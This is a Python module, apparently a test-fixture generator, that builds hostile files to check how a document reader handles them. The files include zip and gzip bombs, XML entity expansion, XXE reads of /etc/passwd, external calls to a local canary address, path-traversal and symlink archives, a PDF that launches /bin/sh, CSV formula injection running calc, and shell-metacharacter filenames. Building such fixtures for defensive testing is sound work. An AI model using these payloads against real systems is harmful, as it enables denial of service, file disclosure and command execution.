"""Hostile files, made here: each a name and bytes that somebody might send to stop, fill, fool or follow a reader.

Those that try to reach somebody ask for ``canary``, an address on this machine where nobody may ever call.
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator

TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATED = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION = f'<!DOCTYPE w [<!ENTITY l0 "lol">{LAUGHS}]>'


Make = Callable[[], bytes]


def zipped(members: dict[str, bytes], **more: object) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **more) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(document: bytes | str, **parts: bytes) -> bytes:
    raw = document.encode() if isinstance(document, str) else document
    named = {name.replace("__", "/").replace("_DOT_", "."): data for name, data in parts.items()}
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": raw, **named})


def words(inside: str, before: str = "") -> str:
    return f"{before}<w:document {WORD}><w:body><w:p><w:r><w:t>{inside}</w:t></w:r></w:p></w:body></w:document>"


def xlsx(sheet: bytes | str, **parts: bytes) -> bytes:
    raw = sheet.encode() if isinstance(sheet, str) else sheet
    book = f'<workbook {SHEET} xmlns:r="{OFFICE}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
    links = f'<Relationships {RELATED}><Relationship Id="r1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    named = {name.replace("__", "/").replace("_DOT_", "."): data for name, data in parts.items()}
    return zipped(
        {
            "[Content_Types].xml": TYPES,
            "_rels/.rels": (
                f'<Relationships {RELATED}><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
                'Target="xl/workbook.xml"/></Relationships>'
            ).encode(),
            "xl/workbook.xml": book.encode(),
            "xl/_rels/workbook.xml.rels": f"{links}</Relationships>".encode(),
            "xl/worksheets/sheet1.xml": raw,
            **named,
        }
    )


def cells(inside: str, before: str = "") -> str:
    return f"{before}<worksheet {SHEET}><sheetData>{inside}</sheetData></worksheet>"


def many_cells(rows: int) -> bytes:
    """A workbook of ``rows`` rows of 26 small numbers: little to send, much to hold."""
    content = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    )
    whole = xlsx(cells("<row>" + "<c><v>1</v></c>" * 26 + "</row>", "").replace("<row>", "<row>", 1))
    row = b"<row>" + b"<c><v>1</v></c>" * 26 + b"</row>"
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(whole)) as given, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in given.namelist():
            if name == "[Content_Types].xml":
                archive.writestr(name, content)
            elif name != "xl/worksheets/sheet1.xml":
                archive.writestr(name, given.read(name))
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(f"<worksheet {SHEET}><sheetData>".encode())
            for _ in range(rows // 100):
                sheet.write(row * 100)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def inflating(megabytes: int) -> bytes:
    """A DEFLATE stream that is a thousandth of what it unpacks to."""
    packer, piece = zlib.compressobj(9, zlib.DEFLATED, -15), b" " * (1 << 20)
    return b"".join(packer.compress(piece) for _ in range(megabytes)) + packer.flush()


def lying_zip(name: str, stream: bytes, claimed: int, many: int = 1) -> bytes:
    """A zip whose members all share one stream, and whose headers claim another size."""
    local = struct.pack("<4sHHHHHLLLHH", b"PK\x03\x04", 20, 0, 8, 0, 33, 0, len(stream), claimed, len(name), 0)
    body, central = local + name.encode() + stream, b""
    for number in range(many):
        shown = name if number == 0 else f"{name}{number}"
        fields = (20, 20, 0, 8, 0, 33, 0, len(stream), claimed, len(shown), 0, 0, 0, 0, 0, 0)
        central += struct.pack("<4sHHHHHHLLLHHHHHLL", b"PK\x01\x02", *fields) + shown.encode()
    end = struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, many, many, len(central), len(body), 0)
    return body + central + end


def understated(data: bytes, name: bytes, claimed: int) -> bytes:
    """A zip in which one member's headers claim another size than it unpacks to."""
    out, at = bytearray(data), 0
    while (at := out.find(name, at)) >= 0:
        for mark, before, size in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
            if out[at - before : at - before + 4] == mark:
                out[at - before + size : at - before + size + 4] = struct.pack("<L", claimed)
        at += 1
    return bytes(out)


def flipped(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


def linked_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("word/document.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def nested(depth: int) -> bytes:
    data = zipped({"a.txt": b"0" * (1 << 20)})
    for _ in range(depth):
        data = zipped({f"{number}.zip": data for number in range(10)})
    return data


def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R", broken: bool = False) -> bytes:
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, rows)
    out += b"trailer<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, start)
    return out[: len(out) // 2] if broken else out


def page(content: bytes, more: bytes = b"", box: bytes = b"[0 0 200 200]") -> tuple[bytes, ...]:
    return (
        b"<</Type/Catalog/Pages 2 0 R %s>>" % more,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>"
        b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>" % box,
        content,
    )


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d %s>>stream\n%s\nendstream" % (len(data), more, data)


def bomb_stream(megabytes: int, piece: bytes) -> bytes:
    packer = zlib.compressobj(9)
    times = (megabytes << 20) // len(piece)
    data = b"".join(packer.compress(piece * 1000) for _ in range(times // 1000)) + packer.flush()
    return stream(data, b"/Filter/FlateDecode")


def png(width: int, height: int, data: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

    head = struct.pack(">LLBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def tar_up() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        one = tarfile.TarInfo("../../../../tmp/escaped")
        one.size = 4
        archive.addfile(one, io.BytesIO(b"here"))
    return out.getvalue()


def corpus(canary: str) -> Iterator[tuple[str, Make]]:
    """Every hostile file: its name, and what makes its bytes."""
    for family in (office(canary), workbooks(canary), pdfs(canary), pages(canary), texts(), chats(), others(canary)):
        yield from family


def chats() -> Iterator[tuple[str, Make]]:
    line = b"[13/03/2031, 06:12:00] A: <attached: b.png>\n"
    yield "bomb-beside-a-chat.zip", lambda: zipped({"_chat.txt": line * 2, "b.png": b" " * (300 << 20)})
    yield "chat-of-many.txt", lambda: b"[13/03/2031, 06:12:00] A: x\n" * 60_000
    yield "telegram-deep.json", lambda: b'{"type": "private_group", "messages": ' + b"[" * 200_000
    yield "submissions-deep.json", lambda: b'[{"formhub/uuid": ' + b'{"a": ' * 200_000


def office(canary: str) -> Iterator[tuple[str, Make]]:
    far = f'<!DOCTYPE w [<!ENTITY x SYSTEM "{canary}/xxe">]>'
    template = f'<Relationships {RELATED}><Relationship Id="r" Type="{OFFICE}/attachedTemplate" Target="{canary}/t"'
    yield "spaces.docx", lambda: docx(b" " * (300 << 20))
    yield "claims-little.docx", lambda: understated(docx(b" " * (250 << 20)), b"word/document.xml", 100)
    yield "one-stream-many-members.zip", lambda: lying_zip("word/document.xml", inflating(20), 20 << 20, 9000)
    yield "seventy-thousand-members.zip", lambda: zipped({f"{number}": b"" for number in range(70_000)})
    yield "up-and-out.docx", lambda: docx(words("a"), **{"../../../../tmp/escaped": b"here", "/tmp/escaped": b"here"})
    yield "linked.docx", lambda: linked_zip()
    yield "nested.zip", lambda: nested(4)
    yield "cut.docx", lambda: docx(words("a"))[:-30]
    yield "laughs.docx", lambda: docx(words("&l9;", BILLION))
    yield "quadratic.docx", lambda: docx(words("&a;" * 50_000, f'<!DOCTYPE w [<!ENTITY a "{"a" * 50_000}">]>'))
    yield "reads-a-file.docx", lambda: docx(words("&x;", '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))
    yield "calls-by-entity.docx", lambda: docx(words("&x;", far))
    yield "calls-by-dtd.docx", lambda: docx(words("a", f'<!DOCTYPE w SYSTEM "{canary}/dtd">'))
    yield (
        "calls-by-template.docx",
        lambda: docx(words("a"), word___rels__settings_DOT_xml_DOT_rels=f'{template} TargetMode="External"/>'.encode()),
    )
    yield "deep.docx", lambda: docx(words("<w:r>" * 200_000))
    yield "macro.docx", lambda: docx(words("a"), word__vbaProject_DOT_bin=b"\xd0\xcf\x11\xe0" + b"macro" * 99)
    yield "not-utf-8.docx", lambda: docx(b"<?xml version='1.0' encoding='utf-7'?><w>\xff\xfe\x00</w>")
    yield "nuls.docx", lambda: docx(words("a").encode() + b"\x00" * 1000)
    yield "no-words.docx", lambda: docx(b"")
    yield "ole.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096
    yield "wrong-sum.docx", lambda: flipped(docx(words("abcdefgh" * 400)), 120)


def workbooks(canary: str) -> Iterator[tuple[str, Make]]:
    link = f'<Relationships {RELATED}><Relationship Id="r" Type="{OFFICE}/externalLinkPath" Target="{canary}/book"'
    far = f'<!DOCTYPE w [<!ENTITY x SYSTEM "{canary}/xxe">]>'
    yield "many-cells.xlsx", lambda: many_cells(100_000)
    yield "laughs.xlsx", lambda: xlsx(cells("<row><c><v>&l9;</v></c></row>", BILLION))
    yield "calls-by-entity.xlsx", lambda: xlsx(cells("<row><c><v>&x;</v></c></row>", far))
    yield "far-cell.xlsx", lambda: xlsx(cells('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))
    yield "wide.xlsx", lambda: xlsx(f'<worksheet {SHEET}><dimension ref="A1:XFD1048576"/><sheetData/></worksheet>')
    yield "formula.xlsx", lambda: xlsx(cells(f'<row><c><f>WEBSERVICE("{canary}/f")</f></c></row>'))
    yield "linked.xlsx", lambda: xlsx(cells(""), xl__externalLinks___rels__e_DOT_xml_DOT_rels=f"{link}/>".encode())
    yield (
        "strings.xlsx",
        lambda: xlsx(cells(""), xl__sharedStrings_DOT_xml=f"<sst {SHEET}>{'<si/>' * 1_000_000}".encode()),
    )
    yield "sheet-bomb.xlsx", lambda: understated(many_cells(200_000), b"xl/worksheets/sheet1.xml", 1000)
    yield "cut.xlsx", lambda: xlsx(cells(""))[:200]
    yield "page.xlsx", lambda: b"<html><table><tr><td>a</td></tr></table></html>"


def pdfs(canary: str) -> Iterator[tuple[str, Make]]:
    goes = f"/OpenAction<</S/URI/URI({canary}/uri)>>".encode()
    runs = b"/OpenAction<</S/JavaScript/JS(while\\(true\\){app.launchURL\\('x'\\)})>>"
    far = f"/OpenAction<</S/GoToR/F<</FS/URL/F({canary}/far)>>/D[0]>>".encode()
    words_of = stream(b"BT /F 12 Tf (Invented) Tj ET")
    loop = stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>")
    yield "cut.pdf", lambda: pdf(*page(words_of), broken=True)
    yield "calls-by-uri.pdf", lambda: pdf(*page(words_of, goes))
    yield "calls-by-script.pdf", lambda: pdf(*page(words_of, runs))
    yield "calls-by-link.pdf", lambda: pdf(*page(words_of, far))
    yield "launches.pdf", lambda: pdf(*page(words_of, b"/OpenAction<</S/Launch/F(/bin/sh)>>"))
    yield "stream-bomb.pdf", lambda: pdf(*page(bomb_stream(1000, b" ")))
    yield "words-bomb.pdf", lambda: pdf(*page(bomb_stream(200, b"BT /F 12 Tf (a) Tj ET ")))
    yield (
        "object-stream-bomb.pdf",
        lambda: pdf(b"<</Type/Catalog>>", bomb_stream(800, b"<<>> "), trailer=b"/Root 1 0 R"),
    )
    yield "form-in-itself.pdf", lambda: pdf(*page(stream(b"/X Do")), loop)
    yield "pages-in-a-ring.pdf", lambda: pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 9>>")
    yield (
        "claims-many-pages.pdf",
        lambda: pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 2147483647>>"),
    )
    yield "deep.pdf", lambda: pdf(b"<</Type/Catalog/Pages " + b"[" * 200_000 + b">>")
    yield "xref-in-a-ring.pdf", lambda: pdf(*page(words_of), trailer=b"/Root 1 0 R /Prev 9")
    yield (
        "locked.pdf",
        lambda: pdf(*page(words_of), trailer=b"/Root 1 0 R /Encrypt<</Filter/Standard/V 5/R 6/O()/U()/P -1>>"),
    )
    yield "huge-page.pdf", lambda: pdf(*page(words_of, box=b"[0 0 99999999999 99999999999]"))
    yield "negative-length.pdf", lambda: pdf(*page(b"<</Length -9>>stream\nq\nendstream"))
    yield "nuls.pdf", lambda: b"%PDF-1.7\n" + bytes(1 << 20)
    yield "zip-too.pdf", lambda: pdf(*page(words_of)) + zipped({"a.txt": b"a"})
    yield "page-before.pdf", lambda: b"<html><script>alert(1)</script></html>".ljust(900) + pdf(*page(words_of))
    yield "many-objects.pdf", lambda: pdf(*[b"<<>>"] * 100_000)


def pages(canary: str) -> Iterator[tuple[str, Make]]:
    asks = f"<img src='{canary}/i'><link rel=stylesheet href='{canary}/s'><iframe src='{canary}/f'></iframe>"
    more = (
        f"<meta http-equiv=refresh content='0;url={canary}/r'><script src='{canary}/j'></script><base href='{canary}'>"
    )
    far = f'<!DOCTYPE html [<!ENTITY x SYSTEM "{canary}/x">]>'
    yield "deep.html", lambda: b"<html><body>" + b"<div>" * 500_000
    yield "deep-table.html", lambda: b"<html>" + b"<table><tr><td>" * 50_000
    yield "calls.html", lambda: f"<html><head>{more}</head><body>{asks}<p>Invented.</p></body></html>".encode()
    yield "calls-by-entity.html", lambda: f"{far}<html><p>&x;</p></html>".encode()
    yield "reads-a-file.html", lambda: b"<html><iframe src='file:///etc/passwd'></iframe><p>Invented.</p></html>"
    yield "long-attribute.html", lambda: b"<html><p title='" + b"a" * (30 << 20) + b"'>a</p></html>"
    yield "entities.html", lambda: b"<html><p>" + b"&amp;" * 4_000_000 + b"</p></html>"
    yield "nuls.html", lambda: b"<html><p>a" + bytes(100_000) + b"</p></html>"
    yield "never-closed.html", lambda: b"<html><!--" + b"-" * (20 << 20)
    yield (
        "spans.html",
        lambda: b"<html><table><tr><td colspan=999999999 rowspan=999999999>a<td>b<tr><td>c<td>d</table></html>",
    )
    yield "many-cells.html", lambda: b"<html><table>" + (b"<tr>" + b"<td>a" * 1000) * 1500 + b"</table></html>"
    yield "utf-7.html", lambda: b"<html><meta charset=utf-7><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p></html>"
    yield "utf-16.html", lambda: "<html><p>a</p></html>".encode("utf-16") * 50_000
    yield (
        "many-attributes.html",
        lambda: b"<html><p " + b" ".join(b"a%d=1" % number for number in range(300_000)) + b">a</p>",
    )
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script><image href='{canary}/v'/></svg>"
    yield "drawing.svg", lambda: svg.encode()


def texts() -> Iterator[tuple[str, Make]]:
    yield "deep.json", lambda: b"[" * 1_000_000
    yield "deep-objects.json", lambda: b'{"a":' * 300_000
    yield "long-number.json", lambda: b"[" + b"9" * 5_000_000 + b"]"
    yield "one-key-many-times.json", lambda: b"{" + b",".join([b'"a":1'] * 500_000) + b"}"
    yield "many-columns.csv", lambda: b",".join([b"a"] * 1_000_000) + b"\n" + b"," * 999_999 + b"\n"
    yield "quote.csv", lambda: b'id,name\n1,"' + b"a\n" * 5_000_000
    yield "nuls.csv", lambda: b"id,name\n1,\x00\x00\n" * 1000
    yield "formulas.csv", lambda: b"id,name\n1,=cmd|' /C calc'!A0\n2,@SUM(1)\n3,\t=1\n"
    yield "one-line.txt", lambda: b"a" * (50 << 20)
    yield "marks.txt", lambda: "ل\u064b".encode() + "\u0301".encode() * 2_000_000
    yield "turned.txt", lambda: ("\u202e" * 100_000 + "txt.exe").encode()
    yield "half-characters.txt", lambda: b"\xed\xa0\x80\xed\xb0\x80\xc0\xaf\xf8\x88\x80\x80\x80" * 9999
    yield "utf-16-no-mark.txt", lambda: "Invented words. ".encode("utf-16-le") * 9999
    yield "escapes.txt", lambda: b"\x1b]0;owned\x07\x1b[2J\x1b[31mInvented\x1b[0m\n" * 999


def others(canary: str) -> Iterator[tuple[str, Make]]:
    yield "gigapixels.png", lambda: png(50_000, 50_000, zlib.compress(bytes(1 << 20)))
    yield "cut.png", lambda: png(10, 10)[:20]
    yield "zip-too.gif", lambda: b"GIF89a\xff\xff\xff\xff" + zipped({"a.js": b"1"})
    yield "long-exif.jpg", lambda: b"\xff\xd8\xff\xe1\xff\xff" + b"Exif\x00\x00" + b"A" * 70_000
    yield "ring.tiff", lambda: b"II*\x00\x08\x00\x00\x00\x01\x00" + bytes(12) + b"\x08\x00\x00\x00"
    yield "bomb.gz", lambda: gzip.compress(bytes(100 << 20))
    yield "up-and-out.tar.gz", lambda: tar_up()
    yield "program.pdf", lambda: b"\x7fELF" + bytes(9999)
    yield "program.docx", lambda: b"MZ" + bytes(9999)
    yield "line\nbreak.txt", lambda: b"Invented."
    yield "-rf", lambda: b"Invented."
    yield "a\u202efdp.exe", lambda: b"MZ\x90\x00" + bytes(99)
    yield "$(touch escaped).txt", lambda: b"Invented."
    yield (
        "mail.eml",
        lambda: b"Content-Type: multipart/mixed; boundary=a\n\n" + b"--a\nContent-Type: multipart/mixed\n" * 50_000,
    )
    yield (
        "page.warc",
        lambda: f"WARC/1.0\r\nWARC-Target-URI: {canary}/w\r\nContent-Length: 99999999999\r\n\r\n".encode(),
    )
    yield "table.db", lambda: b"SQLite format 3\x00" + bytes(84)
    yield "table.parquet", lambda: b"PAR1" + b"\xff" * 100 + b"PAR1"
    yield "settings.json", lambda: json.dumps({"__proto__": {"a": 1}, "$ref": f"{canary}/ref"}).encode()
